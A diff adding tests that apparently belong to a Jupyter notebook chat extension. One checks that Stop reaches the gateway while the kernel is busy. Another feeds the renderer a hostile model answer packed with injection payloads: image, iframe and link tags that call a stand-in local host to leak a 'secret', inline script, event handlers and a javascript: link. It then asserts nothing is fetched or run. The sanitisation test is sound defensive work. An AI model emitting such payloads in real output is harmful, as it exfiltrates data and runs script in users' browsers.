@@ -185,3 +185,46 @@ def test_the_demo_answers_offline_in_a_fresh_notebook(lab: Lab) -> None:
     notebook.photograph(picture, "finished")
     assert notebook.strangers() == []
     assert notebook.errors == []
+
+
+@pytest.mark.parametrize("kind", list(KINDS))
+def test_stop_reaches_the_gateway_while_another_cell_blocks_the_kernel(lab: Lab, kind: str) -> None:
+    pause, busy = Pause(), "import time\nfor _ in range(400): time.sleep(0.05)"
+    with model_server(Script([chunk(content="partial"), pause])) as server:
+        notebook = opened(lab, server, "%%chat --bg\nx", busy, kind=kind)
+        notebook.run(1)
+        notebook.wait_for_text(1, "partial")
+        notebook.start(2)
+        notebook.wait_until("context.session.kernel.status === 'busy'")
+        notebook.press(1, "Stop")
+        assert server.left.wait(10)
+        assert notebook.is_running(2)
+        wait_for_status(notebook, 1, "stopped")
+        notebook.interrupt()
+        notebook.wait_for_cell(2)
+        assert notebook.errors == []
+
+
+HOSTILE = """![pixel](http://127.0.0.1:9/leak?q=secret) <img src="http://127.0.0.1:9/leak" onerror="window.owned = 1">
+</details><script>window.owned = 1</script> [x](javascript:window.owned=1)
+
+| a | b |
+|---|---|
+| `x | ![t](http://127.0.0.1:9/leak) |
+
+<iframe src="http://127.0.0.1:9/leak"></iframe> <a href="http://127.0.0.1:9/leak" onclick="window.owned=1">link</a>
+"""
+
+
+def test_a_hostile_answer_fetches_nothing_and_runs_nothing(lab: Lab) -> None:
+    hostile = Script([chunk(reasoning_content=HOSTILE), chunk(content=HOSTILE), finish(), usage(1, 1)])
+    with model_server(hostile) as server:
+        notebook = opened(lab, server, "%%chat\nx")
+        notebook.run(1)
+        notebook.wait_for_text(1, "javascript")
+        notebook.wait_until("document.querySelectorAll('.jp-OutputArea-output details').length === 1")
+        area = "panel.content.widgets[1].outputArea.node"
+        assert notebook.js(f"{area}.querySelectorAll('img, script, iframe').length") == 0
+        assert notebook.js("window.owned ?? 0") == 0
+        assert [url for url in notebook.requests if "leak" in url] == []
+        notebook.screenshot("hostile")
